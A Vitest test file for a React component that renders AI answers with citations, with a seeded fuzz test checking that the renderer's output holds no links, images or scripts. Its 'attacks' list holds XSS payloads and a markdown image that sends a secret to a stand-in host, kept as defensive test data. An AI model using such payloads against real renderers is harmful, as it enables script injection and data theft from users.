import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { AnswerText } from './AnswerText.tsx';
import { parseAnswer, withoutReferences } from './parse.ts';

const cite = (number: number) => (number <= 2 ? <b>{number}</b> : null);
const render = (text: string) => renderToStaticMarkup(<AnswerText text={text} cite={cite} />);

test('shows paragraphs, lists and references', () => {
  expect(
    parseAnswer('Alder has two deals [1].\nBoth are open.\n\n- Acme [1, 2]\n- Birch\n\nNext:\n1. Call\n2. Write'),
  ).toEqual([
    { kind: 'paragraph', pieces: [{ text: 'Alder has two deals ' }, { cites: 1 }, { text: '.\nBoth are open.' }] },
    { kind: 'list', ordered: false, items: [[{ text: 'Acme ' }, { cites: 1 }, { cites: 2 }], [{ text: 'Birch' }]] },
    { kind: 'paragraph', pieces: [{ text: 'Next:' }] },
    { kind: 'list', ordered: true, items: [[{ text: 'Call' }], [{ text: 'Write' }]] },
  ]);
});

test('shows a reference without a source as text', () => {
  expect(render('See [2] and [3].')).toContain('<b>2</b>');
  expect(render('See [2] and [3].')).toContain('[3]');
});

test('a minus sign or a number inside a sentence starts no list', () => {
  expect(parseAnswer('-5% this month')).toEqual([{ kind: 'paragraph', pieces: [{ text: '-5% this month' }] }]);
  expect(parseAnswer('2026 was good')).toHaveLength(1);
});

test('a draft has no references', () => {
  expect(withoutReferences('We met in May [1], and again in June [2, 3].')).toBe('We met in May, and again in June.');
});

test('loses no word of an answer', () => {
  const text = 'One two [9]\n- three four\n\n* five\n  6. six';
  expect(
    render(text)
      .replace(/<[^>]+>/g, ' ')
      .match(/\w+/g),
  ).toEqual(['One', 'two', '9', 'three', 'four', 'five', 'six']);
});

const attacks = [
  '[click](https://evil.example)',
  '![pixel](https://evil.example/p.png?d=secret)',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">open</a>',
  '<script>alert(1)</script>',
  '[1](https://evil.example)',
  '![1](javascript:alert(1))',
  '[1]: https://evil.example "title"',
  'https://evil.example/[2]',
  '<https://evil.example>',
  '&lt;img src=x&gt;',
  '- <iframe src="//evil.example">',
  '1. [x]: data:text/html;base64,PHNjcmlwdD4=',
  '[[1]](//evil.example)',
  '\u202e[1]\u2066(https://evil.example)',
];

/** A generator with a seed, so that a failure can be repeated. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

test('no text becomes a link, a picture or any other element', () => {
  const next = random(20260316);
  const parts = [
    ...attacks,
    '[1]',
    '[2]',
    '[99]',
    '\n',
    '\n\n',
    '- ',
    '3. ',
    '](',
    '![',
    '<',
    '>',
    '"',
    "'",
    '&',
    '\0',
    '😀',
    ' ',
  ];
  const allowed = /^<\/?(?:div|p|ul|ol|li|span|b)(?: class="[^"<>]*")?>$/;
  for (let round = 0; round < 5_000; round += 1) {
    const length = 1 + Math.floor(next() * 12);
    const text = Array.from({ length }, () =>
      next() < 0.3 ? String.fromCodePoint(1 + Math.floor(next() * 0xd7fe)) : parts[Math.floor(next() * parts.length)]!,
    ).join('');
    for (const tag of render(text).match(/<[^>]*>/g) ?? []) expect(tag, JSON.stringify(text)).toMatch(allowed);
  }
});
